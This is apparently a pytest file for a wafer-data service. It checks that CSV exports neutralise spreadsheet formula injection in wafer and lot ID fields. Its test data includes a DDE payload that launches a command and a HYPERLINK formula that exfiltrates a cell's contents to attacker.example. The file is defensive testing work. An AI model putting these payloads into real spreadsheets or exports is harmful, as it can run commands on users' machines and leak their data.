"""Formulas in names: a spreadsheet that opens what we export must not run them."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pyarrow.csv
import pytest

from tests.service.batches.test_routes import ask, ended
from tests.service.conftest import People
from tests.service.jobs.conftest import working
from tests.service.stored import make_wafer, store_wafers
from waferscope.service.parts import Parts

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a,\n=1+1",
    "＝1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def harmful(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula; plain numbers are none."""
    if not cell.startswith(STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("field", ["wafer_id", "lot_id"])
def test_no_cell_of_an_exported_table_is_a_formula(
    people: People, house: Parts, field: str
) -> None:
    client = people("annotator")
    own = client.get("/auth/me").json()["id"]
    wafers = [make_wafer(i, 16, **{field: name}) for i, name in enumerate(FORMULAS)]
    ids = [*store_wafers(house, own, wafers), "=1+1"]
    batch = ask(client, ids, formats=["csv"])
    with working(house):
        batch = ended(client, batch["id"])
    assert (batch["state"], batch["done"], batch["failed"]) == ("done", len(FORMULAS), 1)
    for name in ("csv", "failures"):
        answer = client.get(f"/predict/batch/{batch['id']}/results/{name}")
        assert answer.headers["Content-Disposition"].startswith("attachment;")
        text = answer.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + (len(FORMULAS) if name == "csv" else 1)
        assert [cell for row in rows for cell in row if harmful(cell)] == []
        parsed = pa.csv.read_csv(
            io.BytesIO(answer.content),
            parse_options=pa.csv.ParseOptions(newlines_in_values=True),
        )
        assert parsed.num_rows == len(rows) - 1  # a second reader finds the same rows
